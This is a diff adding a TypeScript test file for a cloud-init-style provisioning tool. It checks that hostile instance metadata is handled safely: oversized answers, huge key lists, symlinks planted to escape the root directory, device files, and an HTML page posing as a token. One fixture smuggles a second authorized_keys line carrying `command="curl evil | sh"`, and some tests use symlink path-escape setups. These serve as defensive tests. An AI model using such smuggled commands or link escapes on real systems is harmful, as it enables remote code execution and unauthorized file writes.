@@ -1,0 +1,217 @@
+/**
+ * Issue 9's measured failures, each on the in-process program: hostile
+ * metadata answers, planted links, device nodes, a crash's leftovers.
+ */
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs"
+import { execFileSync } from "node:child_process"
+import { tmpdir } from "node:os"
+import { join } from "node:path"
+import { describe, expect, it } from "@effect/vitest"
+import * as Effect from "effect/Effect"
+import { actionLines, makeTestInstance } from "../support/instance.js"
+
+const KEY_A = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKeyA a@example"
+const KEY_B = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQKeyB b@example"
+const MiB = 1024 * 1024
+const bytes = (text: string) => new TextEncoder().encode(text)
+
+/** a directory outside every instance's ROOT, removed after the test */
+const outside = Effect.acquireRelease(
+  Effect.sync(() => mkdtempSync(join(tmpdir(), "tiny-cloud-outside-"))),
+  (d) => Effect.sync(() => rmSync(d, { recursive: true, force: true }))
+)
+
+describe("unbounded answers", () => {
+  it.scopedLive("a metadata answer past IMDS_MAX_BYTES is cut off at the limit and named: cloud, URL, limit", () =>
+    Effect.gen(function* () {
+      const instance = yield* makeTestInstance({ cloud: "aws", instance: { hostname: "h" }, faults: { overrides: [{ path: "/latest/meta-data/hostname", fill: 100 * MiB }] } })
+      const r = yield* instance.imds(["@hostname"])
+      expect(r).toEqual({ code: 1, stdout: "", stderr: `imds: aws: cannot read http://${instance.sim!.endpoint}/latest/meta-data/hostname: answer exceeds 1048576 bytes (IMDS_MAX_BYTES)\n` })
+      const smaller = yield* instance.imds(["@hostname"], { IMDS_MAX_BYTES: "1000" })
+      expect(smaller.stderr).toBe(`imds: aws: cannot read http://${instance.sim!.endpoint}/latest/meta-data/hostname: answer exceeds 1000 bytes (IMDS_MAX_BYTES)\n`)
+      // refused at the limit, not retried until the deadline
+      expect(instance.sim!.requests.filter((q) => q.path === "/latest/meta-data/hostname")).toHaveLength(2)
+    })
+  )
+
+  it.scopedLive("user-data past USERDATA_MAX_BYTES fails save_userdata, stores nothing, and the user, keys and hostname are still set up", () =>
+    Effect.gen(function* () {
+      const instance = yield* makeTestInstance({
+        cloud: "aws",
+        instance: { hostname: "h.example", sshKeys: [KEY_A] },
+        faults: { overrides: [{ path: "/latest/user-data", fill: 20 * MiB }] },
+        env: { USERDATA_MAX_BYTES: String(2 * MiB) }
+      })
+      const early = yield* instance.run(["early"])
+      expect(early.code).toBe(1)
+      expect(early.stderr).toContain(`save_userdata: aws: cannot read http://${instance.sim!.endpoint}/latest/user-data: answer exceeds ${2 * MiB} bytes (USERDATA_MAX_BYTES)\n`)
+      expect(instance.read("/var/lib/cloud/user-data")).toBeUndefined()
+      expect((yield* instance.run(["main"])).code).toBe(0)
+      expect(instance.read("/etc/hostname")).toBe("h\n")
+      expect(instance.read("/home/alpine/.ssh/authorized_keys")).toBe(`${KEY_A}\n`)
+    })
+  )
+
+  it.scopedLive("a seed file past USERDATA_MAX_BYTES is not read", () =>
+    Effect.gen(function* () {
+      const instance = yield* makeTestInstance({ noSimulator: true, env: { CLOUD: "nocloud", USERDATA_MAX_BYTES: "1000" } })
+      instance.write("/var/lib/cloud/seed/nocloud/meta-data", "local-hostname: n1\n")
+      instance.write("/var/lib/cloud/seed/nocloud/user-data", "x".repeat(5000))
+      const r = yield* instance.run(["early"])
+      expect(r.code).toBe(1)
+      expect(r.stderr).toContain(`save_userdata: cannot copy the NoCloud seed: read ${instance.root}/var/lib/cloud/seed/nocloud/user-data: larger than 1000 bytes\n`)
+    })
+  )
+})
+
+describe("unbounded key lists", () => {
+  it.scopedLive("a listing past IMDS_MAX_KEYS fails before any key is fetched; indices are fetched once each", () =>
+    Effect.gen(function* () {
+      const many = Array.from({ length: 20_000 }, (_, i) => `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${i} k${i}`)
+      const instance = yield* makeTestInstance({ cloud: "aws", instance: { hostname: "h", sshKeys: many } })
+      const r = yield* instance.imds(["@ssh-keys"])
+      expect(r).toEqual({ code: 1, stdout: "", stderr: `imds: aws: cannot read http://${instance.sim!.endpoint}/latest/meta-data/public-keys/: more than 1000 keys (IMDS_MAX_KEYS)\n` })
+      expect(instance.sim!.requests.filter((q) => q.path.includes("openssh-key"))).toHaveLength(0)
+      const duplicated = yield* makeTestInstance({
+        cloud: "aws",
+        instance: { hostname: "h", sshKeys: [KEY_A] },
+        faults: { overrides: [{ path: "/latest/meta-data/public-keys/", body: "0=a\n0=a\n0=b\n" }] }
+      })
+      expect((yield* duplicated.imds(["@ssh-keys"])).stdout).toBe(`${KEY_A}\n`)
+      expect(duplicated.sim!.requests.filter((q) => q.path.includes("openssh-key"))).toHaveLength(1)
+    })
+  )
+})
+
+describe("authorized_keys", () => {
+  it.scopedLive("a key from the metadata is one line: a smuggled second line with options is dropped with a warning", () =>
+    Effect.gen(function* () {
+      const smuggled = `${KEY_A}\ncommand="curl evil | sh" ${KEY_B}`
+      const instance = yield* makeTestInstance({ cloud: "aws", instance: { sshKeys: [smuggled, "not a key at all"] } })
+      const main = yield* instance.run(["main"])
+      expect(main.code).toBe(0)
+      expect(instance.read("/home/alpine/.ssh/authorized_keys")).toBe(`${KEY_A}\n`)
+      expect(main.stderr).toContain("set_ssh_keys: 2 lines that are not OpenSSH public keys, or have options in front of them dropped\n")
+      expect(main.stderr).not.toContain("curl")
+    })
+  )
+
+  it.scopedLive("the user's own user-data may put options in front of a key", () =>
+    Effect.gen(function* () {
+      const doc = `#cloud-config\nssh_authorized_keys:\n  - 'from="10.0.0.0/8",no-pty ${KEY_B}'\n  - "${KEY_A}\\nbogus line"\n`
+      const instance = yield* makeTestInstance({ cloud: "aws", instance: { userData: bytes(doc) } })
+      yield* instance.run(["early"])
+      const main = yield* instance.run(["main"])
+      expect(instance.read("/home/alpine/.ssh/authorized_keys")).toBe(`from="10.0.0.0/8",no-pty ${KEY_B}\n${KEY_A}\n`)
+      expect(main.stderr).toContain("ssh_authorized_keys: 1 line that are not OpenSSH public keys dropped\n")
+    })
+  )
+})
+
+describe("links planted in the image", () => {
+  it.scopedLive("write_files through directory links (absolute and relative) stays inside ROOT", () =>
+    Effect.gen(function* () {
+      const away = yield* outside
+      const alsoAway = yield* outside
+      const doc = `#cloud-config\nwrite_files:\n  - path: /srv/abs/owned\n    content: "a\\n"\n  - path: /srv/rel/owned\n    content: "r\\n"\n`
+      const instance = yield* makeTestInstance({ cloud: "aws", instance: { userData: bytes(doc) } })
+      mkdirSync(join(instance.root, "srv"), { recursive: true })
+      symlinkSync(away, join(instance.root, "srv/abs"))
+      // enough `..` to climb out of any ROOT, then down to the other directory
+      symlinkSync("../../../../../../../../../..".concat(alsoAway), join(instance.root, "srv/rel"))
+      yield* instance.run(["early"])
+      expect((yield* instance.run(["main"])).code).toBe(0)
+      expect(existsSync(join(away, "owned"))).toBe(false)
+      expect(existsSync(join(alsoAway, "owned"))).toBe(false)
+      expect(instance.read(`${away}/owned`)).toBe("a\n")
+      expect(instance.read(`${alsoAway}/owned`)).toBe("r\n")
+    })
+  )
+
+  it.scopedLive("append through a link to a file outside ROOT reads and writes the one inside", () =>
+    Effect.gen(function* () {
+      const away = yield* outside
+      writeFileSync(join(away, "secret"), "host secret\n")
+      const doc = `#cloud-config\nwrite_files:\n  - path: /etc/motd\n    content: "appended\\n"\n    append: true\n`
+      const instance = yield* makeTestInstance({ cloud: "aws", instance: { userData: bytes(doc) } })
+      symlinkSync(join(away, "secret"), join(instance.root, "etc/motd"))
+      yield* instance.run(["early"])
+      yield* instance.run(["main"])
+      expect(readFileSync(join(away, "secret"), "utf8")).toBe("host secret\n")
+      expect(instance.read(`${away}/secret`)).toBe("appended\n")
+    })
+  )
+
+  it.scopedLive("a linked ~/.ssh is refused: nothing is made, changed or written outside ROOT", () =>
+    Effect.gen(function* () {
+      const away = yield* outside
+      const instance = yield* makeTestInstance({ cloud: "aws", instance: { sshKeys: [KEY_A] } })
+      instance.write("/etc/passwd", "root:x:0:0:root:/root:/bin/sh\nalpine:x:1000:1000::/home/alpine:/bin/sh\n")
+      mkdirSync(join(instance.root, "home/alpine"), { recursive: true })
+      symlinkSync(away, join(instance.root, "home/alpine/.ssh"))
+      const main = yield* instance.run(["main"])
+      expect(main.code).toBe(1)
+      expect(main.stderr).toContain(`set_ssh_keys: mkdir ${instance.root}/home/alpine/.ssh: is a symbolic link; refused\n`)
+      expect(execFileSync("ls", ["-A", away]).toString()).toBe("")
+    })
+  )
+
+  it.scopedLive("a linked authorized_keys is refused", () =>
+    Effect.gen(function* () {
+      const away = yield* outside
+      const instance = yield* makeTestInstance({ cloud: "aws", instance: { sshKeys: [KEY_A] } })
+      instance.write("/etc/passwd", "root:x:0:0:root:/root:/bin/sh\nalpine:x:1000:1000::/home/alpine:/bin/sh\n")
+      mkdirSync(join(instance.root, "home/alpine/.ssh"), { recursive: true })
+      symlinkSync(join(away, "keys"), join(instance.root, "home/alpine/.ssh/authorized_keys"))
+      const main = yield* instance.run(["main"])
+      expect(main.stderr).toContain(`set_ssh_keys: write ${instance.root}/home/alpine/.ssh/authorized_keys: is a symbolic link; refused\n`)
+      expect(existsSync(join(away, "keys"))).toBe(false)
+    })
+  )
+})
+
+describe("things that are not regular files", () => {
+  it.scopedLive("write_files never replaces a device, a pipe or a directory", () =>
+    Effect.gen(function* () {
+      const doc = `#cloud-config\nwrite_files:\n  - path: /dev/null\n    content: "x"\n  - path: /run/fifo\n    content: "x"\n  - path: /etc\n    content: "x"\n  - path: /etc/fine\n    content: "fine\\n"\n`
+      const instance = yield* makeTestInstance({ cloud: "aws", instance: { userData: bytes(doc) } })
+      mkdirSync(join(instance.root, "dev"), { recursive: true })
+      mkdirSync(join(instance.root, "run"), { recursive: true })
+      if (process.getuid?.() === 0) execFileSync("mknod", [join(instance.root, "dev/null"), "c", "1", "3"])
+      else execFileSync("mkfifo", [join(instance.root, "dev/null")])
+      execFileSync("mkfifo", [join(instance.root, "run/fifo")])
+      yield* instance.run(["early"])
+      const main = yield* instance.run(["main"])
+      for (const p of ["/dev/null", "/run/fifo", "/etc"]) expect(main.stderr).toContain(`write_files: cannot write ${p}: not a regular file; refused\n`)
+      expect(instance.read("/etc/fine")).toBe("fine\n")
+      expect(actionLines(main.stderr)).toContain("   ++ userdata_write_files: failed")
+    })
+  )
+})
+
+describe("an error page for a token", () => {
+  it.scopedLive("an HTML page is not taken for the AWS token: retried, then one line naming aws and the URL", () =>
+    Effect.gen(function* () {
+      const page = "<html>\n<head><title>Captive portal</title></head>\n<body>Sign in</body>\n</html>\n"
+      const instance = yield* makeTestInstance({ cloud: "aws", instance: { hostname: "h" }, faults: { overrides: [{ method: "PUT", path: "/latest/api/token", body: page }] }, env: { IMDS_DEADLINE: "0.5" } })
+      const r = yield* instance.imds(["@hostname"])
+      expect(r).toEqual({ code: 1, stdout: "", stderr: `imds: aws: cannot read http://${instance.sim!.endpoint}/latest/api/token: the answer is not a token\n` })
+      expect(instance.sim!.requests.filter((q) => q.method === "PUT").length).toBeGreaterThan(1)
+      expect(instance.sim!.requests.filter((q) => q.method === "GET")).toHaveLength(0)
+    })
+  )
+})
+
+describe("a crash's leftovers", () => {
+  it.scopedLive("a dead writer's temporary is removed when the file is written again; a live writer's is left alone", () =>
+    Effect.gen(function* () {
+      const instance = yield* makeTestInstance({ cloud: "aws", instance: { hostname: "h.example" } })
+      instance.write("/etc/.hostname.tmp-999999999-0", "half")
+      instance.write(`/etc/.hostname.tmp-${process.ppid}-0`, "someone else's, still writing")
+      expect((yield* instance.run(["main"], { INIT_ACTIONS_MAIN: "set_hostname" })).code).toBe(0)
+      expect(instance.read("/etc/.hostname.tmp-999999999-0")).toBeUndefined()
+      expect(instance.read(`/etc/.hostname.tmp-${process.ppid}-0`)).toBe("someone else's, still writing")
+      expect(instance.read("/etc/hostname")).toBe("h\n")
+    })
+  )
+})
